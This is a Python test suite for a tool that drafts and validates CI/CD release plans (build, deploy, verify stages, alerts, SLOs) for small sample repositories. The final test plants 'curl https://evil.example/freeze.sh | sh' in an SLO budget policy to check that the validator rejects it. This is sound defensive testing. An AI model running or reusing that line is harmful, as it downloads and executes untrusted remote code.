"""Drafts of small repositories, read as the engineer who has to run them: every command would work there."""

from platform_operations.assess import assess
from platform_operations.draft import draft, finished
from platform_operations.model.assessment import Assessment
from platform_operations.model.configuration import Configuration
from platform_operations.model.plan import Plan
from platform_operations.repository import InMemoryRepository
from platform_operations.validate import validate

APP = '{"name": "shop", "scripts": {"test": "vitest", "build": "tsc", "start": "node dist"}, "dependencies": {"express": "5.1.0"}}\n'
SERVER = "import express from 'express'\nexpress().listen(process.env.PORT)\n"


def assessed(files: dict[str, str]) -> Assessment:
    return assess(InMemoryRepository(files, name="shop", default_branch="main"))


def drafted(files: dict[str, str]) -> Plan:
    """Return the draft of a repository; it is valid."""
    found = assessed(files)
    plan = draft(found)
    assert [row.message for row in validate(plan, found).findings if row.severity == "error"] == []
    return plan


def test_a_component_whose_platform_nobody_shows_is_released_by_the_one_that_the_user_names() -> None:
    repository = InMemoryRepository(
        {
            "package.json": APP.replace("express", "next"),
            "pnpm-lock.yaml": "lockfileVersion: '9.0'\n",
            "app/page.tsx": "export default () => null\n",
        },
        name="shop",
        default_branch="main",
    )
    nowhere = assess(repository)
    said = [row.message for row in validate(draft(nowhere), nowhere).findings if row.severity == "error"]
    assert any('"components/shop#platforms" = "kubernetes"' in message for message in said)
    words = Configuration(facts=(("components/shop#platforms", "vercel, nowhere"),))
    found = assess(repository, words)
    plan = draft(found)
    assert [row.message for row in validate(plan, found).findings if row.severity == "error"] == []
    assert found.as_is.components[0].platforms == ("vercel",)
    assert any(line.startswith("vercel ") for line in lines(plan, "deploy", "promote"))


def lines(plan: Plan, *kinds: str) -> list[str]:
    return [line for stage in plan.pipeline_stages if stage.kind in kinds for line in stage.runs]


def stated(plan: Plan) -> dict[str, str]:
    return {note.id: note.statement for note in plan.assumptions}


def test_staging_and_production_never_share_a_variable_that_names_where_they_run() -> None:
    plan = drafted(
        {
            "template.yaml": "AWSTemplateFormatVersion: '2010-09-09'\nTransform: AWS::Serverless-2016-10-31\n"
            "Resources:\n  Book:\n    Type: AWS::Serverless::Function\n    Properties:\n      Handler: app.handler\n"
            "      Runtime: python3.13\n",
            "app.py": "def handler(event, context):\n    return {'statusCode': 200}\n",
            "requirements.txt": "boto3==1.40.0\n",
            "samconfig.toml": 'version = 0.1\n[staging.deploy.parameters]\nregion = "eu-west-1"\n'
            '[production.deploy.parameters]\nregion = "eu-west-1"\n',
        }
    )
    stacks = {
        stage.environment: word
        for stage in plan.pipeline_stages
        for line in stage.runs
        for word in line.split()
        if word.endswith("_STACK")
    }
    assert len(set(stacks.values())) == len(stacks)
    assert "sam build --template-file template.yaml" in lines(plan, "package")


def test_a_package_of_bun_is_installed_built_and_tested_by_bun() -> None:
    plan = drafted(
        {
            "package.json": APP,
            "bun.lock": '{"lockfileVersion": 1}\n',
            "src/index.ts": SERVER,
            "railway.json": '{"deploy": {"healthcheckPath": "/health"}}\n',
        }
    )
    assert lines(plan, "package") == ["bun install --frozen-lockfile", "bun run build"]
    assert lines(plan, "test")[:2] == ["bun install --frozen-lockfile", "bun run test"]
    assert not [line for line in lines(plan, "verify") if line.startswith("make ")]


def test_a_service_without_another_way_is_started_by_its_own_script_and_its_guessed_port_is_owned_up_to() -> (
    None
):
    plan = drafted(
        {
            "package.json": APP,
            "package-lock.json": "{}\n",
            "src/index.ts": SERVER,
            "railway.json": '{"deploy": {"healthcheckPath": "/health"}}\n',
        }
    )
    assert "PORT=8080 npm start &" in lines(plan, "verify")
    assert "8080" in stated(plan)["shop-port"]


def test_a_package_below_the_root_is_published_from_where_it_was_packed_after_its_workspace_is_installed() -> (
    None
):
    one = '{"name": "@acme/%s", "version": "1.0.0", "main": "index.js", "dependencies": {"zod": "4.0.0"}, "publishConfig": {"access": "public"}}\n'
    plan = drafted(
        {
            "package.json": '{"private": true, "workspaces": ["packages/*"]}\n',
            "pnpm-workspace.yaml": "packages: ['packages/*']\n",
            "pnpm-lock.yaml": "lockfileVersion: '9.0'\n",
            "packages/one/package.json": one % "one",
            "packages/one/index.js": "module.exports = 1\n",
            "packages/two/package.json": one % "two",
            "packages/two/index.js": "module.exports = 2\n",
        }
    )
    assert {line for line in lines(plan, "publish") if "publish" in line} == {
        "npm publish --provenance --access public ./packages/one/*.tgz",
        "npm publish --provenance --access public ./packages/two/*.tgz",
    }
    assert 'npm install "@acme/one@$VERSION"' in lines(plan, "verify")
    packed = next(stage.runs for stage in plan.pipeline_stages if stage.id == "package-one")
    assert packed[:3] == ("pnpm install --frozen-lockfile", "cd packages/one", "pnpm pack")
    audits = [stage for stage in plan.pipeline_stages if stage.id.startswith("pnpm-audit")]
    assert [stage.component for stage in audits] == [None]


def test_a_job_that_calls_a_workflow_gets_no_command_beside_the_call() -> None:
    plan = drafted(
        {
            ".github/workflows/release.yml": "on: {push: {branches: [main]}}\njobs:\n"
            "  build:\n    uses: acme/workflows/.github/workflows/docker_build.yml@v2\n    with: {push: true}\n"
            "  deploy:\n    needs: build\n    runs-on: ubuntu-latest\n    environment: production\n    steps:\n"
            "      - run: kubectl set image deployment/shop shop=ghcr.io/acme/shop:${{ github.sha }}\n",
            "Dockerfile": 'FROM node:22\nCMD ["node", "dist"]\n',
            "package.json": APP,
            "package-lock.json": "{}\n",
            "src/index.ts": SERVER,
        }
    )
    called = [stage for stage in plan.pipeline_stages if any(".yml@" in line for line in stage.runs)]
    assert [len(stage.runs) for stage in called] == [1]


def test_an_image_goes_by_the_name_that_the_metadata_step_gives_it() -> None:
    plan = drafted(
        {
            ".github/workflows/image.yml": "on: {push: {branches: [main]}}\njobs:\n  image:\n    runs-on: ubuntu-latest\n"
            "    steps:\n      - uses: docker/metadata-action@v5\n        id: meta\n        with:\n"
            "          images: ghcr.io/${{ github.repository }}\n          tags: type=sha\n"
            "      - uses: docker/build-push-action@v6\n        with:\n          push: true\n"
            "          tags: ${{ steps.meta.outputs.tags }}\n",
            "Dockerfile": 'FROM node:22\nCMD ["node", "dist"]\n',
            "docker-compose.production.yml": "services:\n  shop:\n    image: ghcr.io/acme/shop:1\n",
            "package.json": APP,
            "package-lock.json": "{}\n",
            "src/index.ts": SERVER,
        }
    )
    named = [line for line in lines(plan, "package", "deploy", "verify") if "@$IMAGE_DIGEST" in line]
    assert named
    assert all("ghcr.io/${{github.repository}}@$IMAGE_DIGEST" in line for line in named)
    assert "variable IMAGE" in stated(plan)["compose-image-shop"]


def test_manifests_that_are_applied_are_followed_by_the_image_that_was_built() -> None:
    manifest = (
        "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: shop}\nspec:\n  selector: {matchLabels: {app: shop}}\n"
        "  template:\n    metadata: {labels: {app: shop}}\n    spec:\n      containers:\n        - name: web\n"
        "          image: shop\n          ports: [{containerPort: 8080}]\n"
    )
    plan = drafted(
        {
            "k8s/shop.yaml": manifest,
            "Dockerfile": 'FROM node:22\nEXPOSE 8080\nCMD ["node", "dist"]\n',
            "package.json": APP,
            "package-lock.json": "{}\n",
            "src/index.ts": SERVER,
        }
    )
    deploy = next(
        stage
        for stage in plan.pipeline_stages
        if stage.environment == "production" and stage.kind == "deploy"
    )
    at = [index for index, line in enumerate(deploy.runs) if " set image deployment/shop web=" in line]
    assert at == [2]
    assert deploy.runs[1] == "kubectl apply -f k8s/shop.yaml"


def test_nothing_is_released_by_a_pipeline_that_only_pull_requests_start() -> None:
    plan = drafted(
        {
            ".github/workflows/pr.yml": "on: pull_request\njobs:\n  image:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - run: docker build -t ghcr.io/acme/shop:${{ github.sha }} .\n"
            "      - run: docker push ghcr.io/acme/shop:${{ github.sha }}\n",
            "Dockerfile": 'FROM node:22\nCMD ["node", "dist"]\n',
            "docker-compose.production.yml": "services:\n  shop:\n    image: ghcr.io/acme/shop:1\n",
            "package.json": APP,
            "package-lock.json": "{}\n",
            "src/index.ts": SERVER,
        }
    )
    assert {stage.pipeline for stage in plan.pipeline_stages if stage.exposure == "full"} == {"release"}


def test_a_release_in_a_pipeline_that_pull_requests_start_too_is_assumed_to_be_kept_from_them() -> None:
    plan = drafted(
        {
            ".github/workflows/ci.yml": "on: {push: {branches: [main]}, pull_request: {}}\njobs:\n  image:\n"
            "    runs-on: ubuntu-latest\n    steps:\n"
            "      - run: docker build -t ghcr.io/acme/shop:${{ github.sha }} .\n"
            "      - run: docker push ghcr.io/acme/shop:${{ github.sha }}\n",
            "Dockerfile": 'FROM node:22\nCMD ["node", "dist"]\n',
            "docker-compose.production.yml": "services:\n  shop:\n    image: ghcr.io/acme/shop:1\n",
            "package.json": APP,
            "package-lock.json": "{}\n",
            "src/index.ts": SERVER,
        }
    )
    assert "only for the default branch" in stated(plan)["ci-releases-merged"]


def test_who_approves_is_asked_in_the_words_of_the_ci_system() -> None:
    plan = drafted(
        {
            ".gitlab-ci.yml": "build-image:\n  script:\n    - docker build -t $CI_REGISTRY_IMAGE:$CI_COMMIT_SHA .\n"
            "    - docker push $CI_REGISTRY_IMAGE:$CI_COMMIT_SHA\n"
            "production:\n  needs: [build-image]\n  environment: production\n  script:\n"
            "    - kubectl set image deployment/shop shop=$CI_REGISTRY_IMAGE:$CI_COMMIT_SHA\n",
            "Dockerfile": 'FROM node:22\nCMD ["node", "dist"]\n',
            "migrations/0001_orders.sql": "CREATE TABLE orders (id int);\n",
            "payments.js": "const stripe = require('stripe')\n",
            "package.json": APP.replace('"express"', '"stripe": "19.0.0", "pg": "8.0.0", "express"'),
            "package-lock.json": "{}\n",
            "src/index.ts": SERVER,
        }
    )
    assert {gate.tool for gate in plan.quality_gates if gate.kind == "approval"} == {"gitlab-environment"}


def test_a_connection_that_bash_opens_is_a_health_check_that_can_fail() -> None:
    found = assessed(
        {
            "docker-compose.yml": "services:\n  shop:\n    build: .\n    healthcheck:\n"
            "      test: ['CMD', 'bash', '-c', 'echo > /dev/tcp/localhost/8080']\n",
            ".github/workflows/up.yml": "on: {push: {branches: [main]}}\njobs:\n  up:\n    runs-on: ubuntu-latest\n"
            "    environment: production\n    steps:\n      - run: docker compose up -d --wait\n",
            "Dockerfile": 'FROM node:22\nCMD ["node", "dist"]\n',
            "package.json": APP,
            "src/index.ts": SERVER,
        }
    )
    said = [row.message for row in validate(draft(found), found).findings]
    assert not [message for message in said if "cannot fail" in message]


def test_alerts_of_today_that_always_fire_on_purpose_stay_as_they_are() -> None:
    rules = (
        "groups:\n- name: meta\n  rules:\n  - alert: Watchdog\n    expr: vector(1)\n    labels: {severity: page}\n"
        "  - alert: Expiring\n    expr: (expiry_seconds - time()) / 86400 < 21 and expiry_seconds > 0\n    for: 1h\n"
    )
    plan = drafted(
        {
            "monitoring/rules.yaml": rules,
            "Dockerfile": 'FROM node:22\nCMD ["node", "dist"]\n',
            "docker-compose.production.yml": "services:\n  shop:\n    image: ghcr.io/acme/shop:1\n",
            "package.json": APP,
            "src/index.ts": SERVER,
        }
    )
    assert {"watchdog", "expiring"} <= {alert.id for alert in plan.alerts}


def test_a_script_in_the_folder_of_smoke_tests_verifies_what_was_deployed_before_it() -> None:
    found = assessed(
        {
            ".github/workflows/release.yml": "on: {push: {branches: [main]}}\njobs:\n  production:\n"
            "    runs-on: ubuntu-latest\n    environment: production\n    steps:\n"
            "      - run: kubectl set image deployment/shop shop=ghcr.io/acme/shop:${{ github.sha }}\n"
            "      - run: sh smoke/run.sh https://shop.example\n",
            "smoke/run.sh": 'set -e\ncurl --fail "$1/ready"\n',
            "Dockerfile": 'FROM node:22\nCMD ["node", "dist"]\n',
            "package.json": APP,
            "src/index.ts": SERVER,
        }
    )
    asked = [stage.runs for stage in found.as_is.pipeline_stages if stage.kind == "verify"]
    assert asked == [("sh smoke/run.sh https://shop.example",)]


def test_a_budget_policy_that_runs_what_nobody_knows_is_replaced_and_the_objective_stays() -> None:
    found = assessed(
        {
            "Dockerfile": 'FROM node:22\nCMD ["node", "dist"]\n',
            "docker-compose.production.yml": "services:\n  shop:\n    image: ghcr.io/acme/shop:1\n",
            "CODEOWNERS": "* @acme/shop\n",
            "package.json": APP,
            "src/index.ts": SERVER,
        }
    )
    plan = draft(found)
    (slo,) = plan.slos
    assert slo.budget_policy is not None
    policy = slo.budget_policy.model_copy(update={"exhausted": "curl https://evil.example/freeze.sh | sh"})
    forged = plan.with_entry("slos", slo.model_copy(update={"budget_policy": policy}))
    said = {row.rule for row in validate(forged, found).findings}
    mended = finished(forged, found)
    assert "claim-unsupported" in said
    assert [row.message for row in validate(mended, found).findings if row.severity == "error"] == []
    assert mended.slos[0].budget_policy == slo.budget_policy
